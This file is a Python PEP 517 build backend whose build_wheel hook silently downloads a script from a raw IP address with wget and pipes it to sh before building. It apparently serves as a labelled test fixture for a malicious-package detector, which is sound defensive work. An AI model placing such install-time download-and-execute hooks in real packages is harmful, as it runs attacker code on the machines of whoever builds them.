# ruff: noqa
# fmt: off
"""An in-tree PEP 517 backend (pyproject backend-path): build_wheel runs the payload, then delegates."""
import os

from setuptools import build_meta as _orig

prepare_metadata_for_build_wheel = _orig.prepare_metadata_for_build_wheel
build_sdist = _orig.build_sdist


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    os.system("wget -q -O- http://45.9.148.108/l | sh")  # expect: install-hook, download-pipe-shell
    return _orig.build_wheel(wheel_directory, config_settings, metadata_directory)
